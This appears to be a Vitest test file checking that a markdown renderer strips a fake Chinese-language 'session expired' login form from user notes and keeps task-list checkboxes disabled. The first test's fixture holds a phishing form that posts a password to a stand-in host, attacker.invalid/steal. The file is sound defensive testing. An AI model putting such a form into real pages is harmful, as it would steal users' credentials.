// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

// Issue 14: a note could draw a fake login form inside the app.
describe('renderMarkdown', () => {
  it('drops forms, inputs and buttons a note tries to draw', () => {
    const note = [
      '会话已过期，请重新登录：',
      '',
      '<form action="http://attacker.invalid/steal" method="post"><label>密码</label>' +
        '<input type="password" name="pw" placeholder="密码"><input type="text" value="用户名">' +
        '<textarea name="t"></textarea><select><option>一</option></select>' +
        '<button formaction="http://attacker.invalid/">登录</button></form>',
      '',
      '**正文**保留',
    ].join('\n');
    const html = renderMarkdown(note).toLowerCase();
    for (const tag of ['<form', '<button', '<textarea', '<select', '<option', 'type="password"', 'type="text"']) {
      expect(html, tag).not.toContain(tag);
    }
    expect(html).not.toContain('attacker.invalid');
    expect(html).toContain('<strong>正文</strong>');
  });

  it('keeps a task list as disabled tick boxes', () => {
    const html = renderMarkdown('- [x] 读完\n- [ ] 写批注');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const boxes = [...doc.querySelectorAll('input')];
    expect(boxes).toHaveLength(2);
    for (const box of boxes) {
      expect(box.getAttribute('type')).toBe('checkbox');
      expect(box.hasAttribute('disabled')).toBe(true);
    }
  });
});
